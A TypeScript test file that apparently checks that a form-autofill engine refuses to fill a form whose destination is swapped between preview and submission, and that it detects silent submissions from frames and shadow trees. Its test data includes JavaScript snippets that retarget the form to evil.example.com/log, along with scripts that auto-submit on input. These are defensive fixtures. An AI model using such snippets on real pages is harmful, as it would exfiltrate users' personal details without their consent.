import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { StepResult } from "@/lib/form/step";
import type { Lab, LabPage } from "../../libraries/lab";
import { ANSWERS, form, NAME, open, openLab, valueOf } from "./scene";

let lab: Lab;
beforeAll(async () => {
  lab = await openLab();
});
afterAll(() => lab.close());

const AWAY = "https://evil.example.com/log";
/** Where the form leads is changed between the preview and the click. */
const CHANGES: [string, string][] = [
  ["another address", `document.getElementById("form").action="${AWAY}"`],
  ["another base", `document.head.insertAdjacentHTML("beforeend","<base href='https://evil.example.com/'>")`],
  ["a button with an address of its own", `document.getElementById("send").setAttribute("formaction","${AWAY}")`],
  ["another window", `document.getElementById("form").target="hidden"`],
  ["another method", `document.getElementById("form").method="get"`],
  [
    "another form",
    `document.body.insertAdjacentHTML("beforeend","<form id=other action='${AWAY}'></form>");for(const el of document.querySelectorAll("#form input,#form textarea"))el.setAttribute("form","other")`,
  ],
  ["another heading", `document.querySelector("h2").textContent="被投诉人信息"`],
];

describe("a form that is another when it is to be written", () => {
  it.each(CHANGES)("by %s, gets nothing", async (_, change) => {
    const scene = await open(lab, form());
    await scene.engine("plan", ANSWERS);
    await scene.page.evaluate(change);
    const results = await scene.engine<StepResult[]>("apply");
    expect([await valueOf(scene, "name"), await valueOf(scene, "phone")]).toEqual(["", ""]);
    expect(results.map(({ status }) => status)).not.toContain("filled");
    await scene.close();
  });

  it("by another address that comes with the first word, gets no more", async () => {
    const scene = await open(
      lab,
      form(
        `<script>document.getElementById("name").addEventListener("input",()=>{document.getElementById("form").action="${AWAY}"})</script>`,
      ),
    );
    await scene.engine("fill", ANSWERS);
    expect([await valueOf(scene, "phone"), await valueOf(scene, "facts")]).toEqual(["", ""]);
    await scene.close();
  });

  it("by its query or its place in the page alone, is filled", async () => {
    const scene = await open(lab, form());
    await scene.engine("plan", ANSWERS);
    await scene.page.evaluate(`history.replaceState(null,"","?step=2#here")`);
    await scene.engine("apply");
    expect(await valueOf(scene, "name")).toBe(NAME);
    await scene.close();
  });
});

describe("a submission that does not come up to the window", () => {
  const counted = async (scene: LabPage, where: string): Promise<unknown> => {
    const told = await scene.engine<{ results: StepResult[] }>("fill", ANSWERS);
    const name = await scene.page.evaluate(`${where}.getElementById("name")?.value ?? "gone"`);
    await scene.close();
    return [name, told.results.map(({ why }) => why).includes("submit-caught")];
  };

  it("out of a frame is caught", async () => {
    const scene = await open(lab, `<h1>消费者投诉</h1><iframe id="inner" style="width:700px;height:400px"></iframe>`);
    await scene.page.evaluate(
      (html) => {
        const inner = (globalThis.document.getElementById("inner") as HTMLIFrameElement).contentDocument!;
        inner.open();
        inner.write(html);
        inner.close();
      },
      `<html><body>${form(`<script>document.getElementById("name").addEventListener("input",function(){this.form.requestSubmit()})</script>`)}</body></html>`,
    );
    expect(await counted(scene, `document.getElementById("inner").contentDocument`)).toEqual([NAME, true]);
  });

  it("out of a shadow tree is caught", async () => {
    const scene = await open(lab, `<h1>消费者投诉</h1><div id="host"></div>`);
    await scene.page.evaluate((html) => {
      const root = globalThis.document.getElementById("host")!.attachShadow({ mode: "open" });
      root.innerHTML = html;
      const name = root.getElementById("name") as HTMLInputElement;
      name.addEventListener("input", () => name.form!.requestSubmit());
    }, form());
    expect(await counted(scene, `document.getElementById("host").shadowRoot`)).toEqual([NAME, true]);
  });

  it("by a method of the prototype into a hidden frame is told", async () => {
    const send = `const f=document.getElementById("form");document.getElementById("name").addEventListener("input",()=>{f.target="away";f.action="/away";post.call(f)})`;
    const scene = await open(lab, `${form()}<iframe name="away" hidden></iframe>`);
    await scene.page.evaluate(`{${send}}`);
    const told = await scene.engine<{ results: StepResult[] }>("fill", ANSWERS);
    expect(told.results.filter(({ status }) => status === "filled").length).toBeLessThan(3);
    await scene.close();
  });
});
